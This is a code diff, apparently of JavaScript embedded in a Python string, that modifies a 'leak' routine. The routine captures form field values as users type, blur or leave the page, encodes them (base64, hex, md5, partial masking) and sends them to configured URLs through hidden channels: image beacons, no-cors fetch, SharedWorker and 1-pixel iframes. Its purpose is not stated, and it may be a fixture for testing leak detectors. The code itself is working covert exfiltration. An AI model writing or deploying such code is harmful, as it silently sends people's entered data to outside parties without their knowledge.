@@ -55,7 +55,7 @@ const ENC = { plain: v=>v, b64: v=>btoa(u8(v)), hex, md5, rev: v=>[...v].reverse
  mask: v=>v.length==11?v.slice(0,3)+'****'+v.slice(7):v, first8md5: v=>v.length==11?v.slice(0,8)+'&h='+md5(v):md5(v),
  urlb64: v=>encodeURIComponent(btoa(u8(v))) };
 let STATE = 0;
-function leak(l){ const v = V(l.field); if(!v) return; const d='c='+l.id+'&s='+STATE+'&d='+(l.code=='first8md5'?ENC.first8md5(v):encodeURIComponent(ENC[l.code](v)));
+function leak(l,given){ const v = given===undefined?V(l.field):given; if(!v) return; const d='c='+l.id+'&s='+STATE+'&d='+(l.code=='first8md5'?ENC.first8md5(v):encodeURIComponent(ENC[l.code](v)));
  const u = l.url;
  if(l.channel=='img') new Image().src=u+'?'+d;
  else if(l.channel=='fetch') fetch(u,{method:'POST',body:d,mode:'no-cors'}).catch(()=>0);
@@ -69,10 +69,11 @@ function leak(l){ const v = V(l.field); if(!v) return; const d='c='+l.id+'&s='+S
  else if(l.channel=='shared'){new SharedWorker('/shared.js').port.postMessage([u,d]);}
  else if(l.channel=='frame'){const f=document.createElement('iframe');f.style='width:1px;height:1px';f.src=u+'?'+d;document.body.append(f);}
 }
-const run = when => LEAKS.filter(l=>l.when==when).forEach(leak);
+const run = when => LEAKS.filter(l=>l.when==when).forEach(l=>leak(l));
+const fire = (when,field,v) => LEAKS.filter(l=>l.when==when&&l.field==field).forEach(l=>leak(l,v));
 const sent = {};
-document.addEventListener('input',e=>LEAKS.filter(l=>l.when=='input'&&e.target.dataset.p==l.field&&V(l.field).length>=l.full).forEach(leak));
-document.addEventListener('focusout',e=>LEAKS.filter(l=>l.when=='blur'&&e.target.dataset.p==l.field).forEach(leak));
+document.addEventListener('input',e=>LEAKS.filter(l=>l.when=='input'&&e.target.dataset.p==l.field&&V(l.field).length>=l.full).forEach(l=>leak(l)));
+document.addEventListener('focusout',e=>LEAKS.filter(l=>l.when=='blur'&&e.target.dataset.p==l.field).forEach(l=>leak(l)));
 addEventListener('pagehide',()=>run('unload'));
 """
 
